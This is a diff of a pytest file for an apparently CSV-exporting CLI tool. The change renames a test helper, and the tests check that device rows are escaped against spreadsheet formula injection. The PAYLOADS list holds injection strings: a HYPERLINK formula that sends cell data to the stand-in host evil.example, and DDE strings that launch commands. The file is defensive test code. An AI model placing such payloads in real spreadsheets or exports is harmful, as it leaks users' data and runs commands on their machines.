@@ -7,7 +7,7 @@ import io
 
 import pytest
 
-from tests.conftest import run_cli
+from tests.conftest import invoke
 from trainbudget.addin.cli import render
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -46,7 +46,7 @@ def _cells(text: str) -> list[str]:
 def test_devices_and_estimate_csv_escape_device_rows(hostile_catalog):
     for args in (("devices", "--csv"),
                  ("estimate", "--csv", *[a for p in PAYLOADS[:5] for a in ("--device", p)])):
-        out = run_cli(*args, "--catalog", str(hostile_catalog), check=True).stdout
+        out = invoke(*args, "--catalog", str(hostile_catalog), check=True).stdout
         got = _cells(out)
         assert not [c for c in got if c.startswith(render.FORMULA_STARTS)], out
         for p in PAYLOADS[:5]:
